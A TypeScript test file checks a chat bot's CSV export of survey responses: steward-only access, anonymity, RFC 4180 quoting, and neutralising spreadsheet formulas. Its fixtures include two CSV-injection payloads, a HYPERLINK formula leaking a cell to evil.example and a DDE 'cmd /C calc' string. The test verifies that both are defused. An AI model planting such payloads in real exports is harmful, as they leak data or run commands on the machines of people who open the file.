import { parse } from "csv-parse/sync";
import { beforeEach, describe, expect, it } from "vitest";
import type { Card } from "../../src/core/kernel/card.js";
import type { Delivery } from "../../src/core/kernel/kernel.js";
import { ANA, BEN, CHANNEL, CHARTER_VALUES, kernelOnRealStore, kinds, texts, verbsOf, type Actor, type KernelHarness } from "../support/core.js";

/** `export survey ID`: a steward's private CSV of the responses, read back with the csv project's own parser. */
const CAROL = { personKey: "teams:tenant-1:aad-carol", displayName: "Carol Ng", locale: "en" } as const;
const FEEDBACK = { template: "postEvent", title: "Feedback on the March webinar", privacy: "anonymous", visibility: "afterClose", "deadline.date": "2026-11-30", "deadline.time": "17:00", "deadline.zone": "Europe/Rome" };
const HEADER = [
  "Overall, how useful was the event? (1 = not at all, 5 = very)",
  "How was its length?",
  "What helped you most? (1 to 3)",
  "How likely are you to recommend this community to a colleague? (0 = not at all, 10 = extremely)",
  "What should we do differently next time?",
];
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const TRICKY = 'Shorter talks, more "hands-on" time\nand a second line';

const posted = (d: Delivery) => d.items.find((i) => i.kind === "post")!.card;
const actionsOf = (card: Card) => card.blocks.flatMap((b) => (b.type === "actions" ? b.actions : []));
const surveyIdOf = (card: Card) => String(actionsOf(card).find((a) => a.verb === "surveys.answer.open")!.data.survey);

/** The file a delivery carries: its name, the bytes, and the bytes parsed back as rows of cells. */
function fileOf(d: Delivery) {
  const item = d.items.find((i) => i.kind === "file");
  expect(item, `a file in ${JSON.stringify(kinds(d))}: ${texts(d).join(" / ")}`).toBeTruthy();
  const { file, card } = item as Extract<Delivery["items"][number], { kind: "file" }>;
  return { file, card, rows: parse(file.bytes, { bom: true, relax_column_count: false }) as string[][] };
}

describe("exporting a survey's responses as CSV", () => {
  let h: KernelHarness;
  beforeEach(async () => {
    h = await kernelOnRealStore();
    await h.submit(ANA, await h.say(ANA, CHANNEL, "setup"), CHARTER_VALUES);
  });

  async function answer(who: Actor, card: Card, values: Record<string, string | string[]>) {
    const prompt = await h.press(who, CHANNEL, "surveys.answer.open", { survey: surveyIdOf(card) });
    const form = await h.press(who, CHANNEL, "surveys.answer.open", actionsOf(prompt.items[0]!.card)[0]!.data);
    expect(kinds(form)).toEqual(["form"]);
    return h.submit(who, form, values);
  }

  it("gives the steward an anonymous survey's responses: BOM, RFC 4180 quoting, formulas neutralised, no names, open and after close", async () => {
    const card = posted(await h.submit(ANA, await h.say(ANA, CHANNEL, "survey"), FEEDBACK));
    const id = surveyIdOf(card);
    await answer(BEN, card, { q1: "4", q2: "1", q3: ["0", "2"], q4: "10", q5: FORMULA });
    await answer(CAROL, card, { q1: "2", q2: "2", q3: ["2"], q4: "3", q5: TRICKY });
    await answer(ANA, card, { q1: "3", q2: "0", q3: ["1"], q4: "8", q5: "-1 for the room, +1 for the talks" });

    const done = await h.say(ANA, CHANNEL, `export survey ${id.toLowerCase()}`);
    const { file, card: line, rows } = fileOf(done);
    expect(file).toMatchObject({ name: `survey-${id}.csv`, mime: "text/csv; charset=utf-8", title: "Responses to Feedback on the March webinar" });
    expect(line.summary).toContain("Here are the 3 responses to **Feedback on the March webinar** as a CSV file. It is anonymous");
    // UTF-8 with a byte order mark; records end in CRLF; the quote and the line break inside a cell are quoted.
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = file.bytes.toString("utf8");
    expect(text.split("\r\n")[0]).toContain('"Overall, how useful was the event? (1 = not at all, 5 = very)"');
    expect(text).toContain('"Shorter talks, more ""hands-on"" time\nand a second line"');

    expect(rows[0]).toEqual(HEADER);
    const body = rows.slice(1);
    expect(body).toHaveLength(3);
    // One row per response, whatever the order: the options by name (several joined with "; "), scores as numbers.
    expect([...body].sort((a, b) => a[0]!.localeCompare(b[0]!))).toEqual([
      ["2", "Too long", "Examples from practice", "3", TRICKY],
      ["3", "Too short", "Discussion", "8", "'-1 for the room, +1 for the talks"],
      ["4", "About right", "The talks; Examples from practice", "10", `'${FORMULA}`],
    ]);
    // The formula is text to a spreadsheet now; and no one who answered is named anywhere in the file.
    expect(body.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    for (const who of [ANA, BEN, CAROL]) for (const trace of [who.displayName, who.personKey, who.personKey.split(":").at(-1)!]) expect(text).not.toContain(trace);
    // Rows do not follow answer time: the same file, byte for byte, however often it is asked for.
    expect(fileOf(await h.say(ANA, CHANNEL, `export survey ${id}`)).file.bytes.equals(file.bytes)).toBe(true);

    // After close (the ballot key is gone), the export still has every response.
    const closed = await h.say(ANA, CHANNEL, `close survey ${id}`);
    expect(texts(closed)[0]).toMatch(/is closed/);
    expect(fileOf(await h.say(ANA, CHANNEL, `export survey ${id}`)).rows).toEqual(rows);
  });

  it("puts each person's name first in a named survey, and offers the button on a steward's results only", async () => {
    const done = await h.submit(ANA, await h.say(ANA, CHANNEL, "survey"), { ...FEEDBACK, template: "checkIn", visibility: "stewards", privacy: "named" });
    const id = surveyIdOf(posted(done));
    await answer(BEN, posted(done), { q1: "4", q2: "2", q3: "@SUM(1+1)*cmd|' /C calc'!A0" });
    await answer(CAROL, posted(done), { q1: "5", q2: "0" });

    const forSteward = await h.say(ANA, CHANNEL, `results ${id}`);
    const results = forSteward.items[0]!.card;
    // While it is open, the steward may also remind who has not answered.
    expect(verbsOf(results)).toEqual(["surveys.export", "surveys.remind"]);
    expect(actionsOf(results)[0]!.label).toBe("Export CSV");
    const pressed = await h.press(ANA, CHANNEL, "surveys.export", actionsOf(results)[0]!.data);
    const { rows, card: line } = fileOf(pressed);
    expect(line.summary).toContain("with each person's name");
    expect(rows).toEqual([
      ["Name", "How well are you progressing on what you set out to do? (1 = stuck, 5 = very well)", "Has taking part changed how you work?", "What have you tried or learned since we last checked in?"],
      ["Ben Okafor", "4", "Clearly", "'@SUM(1+1)*cmd|' /C calc'!A0"],
      ["Carol Ng", "5", "Not yet", ""],
    ]);
  });

  it("is for stewards only, and says which survey when the id is missing or unknown", async () => {
    const card = posted(await h.say(ANA, CHANNEL, 'poll "Which day suits?" Tue Wed Thu'));
    const id = String(actionsOf(card)[0]!.data.survey);
    const refused = await h.say(BEN, CHANNEL, `export survey ${id}`);
    expect(kinds(refused)).toEqual(["reply"]);
    expect(texts(refused)[0]).toMatch(/Only the facilitators of Data Stewards can do that/);
    expect(kinds(await h.press(BEN, CHANNEL, "surveys.export", { id }))).toEqual(["reply"]);
    expect(texts(await h.say(ANA, CHANNEL, "export survey"))[0]).toMatch(/Which one\? Type export survey and its id/);
    expect(texts(await h.say(ANA, CHANNEL, "export survey NOPE42"))).toEqual(["That survey does not exist in this community."]);
    // A member's results card has no export button.
    await h.press(BEN, CHANNEL, "surveys.vote", actionsOf(card)[0]!.data);
    expect(verbsOf((await h.say(BEN, CHANNEL, `results ${id}`)).items[0]!.card)).toEqual([]);
    // A quick poll exports the same way: its question, and an answer per row.
    expect(fileOf(await h.say(ANA, CHANNEL, `export poll ${id}`)).rows).toEqual([["Which day suits?"], ["Tue"]]);
  });
});
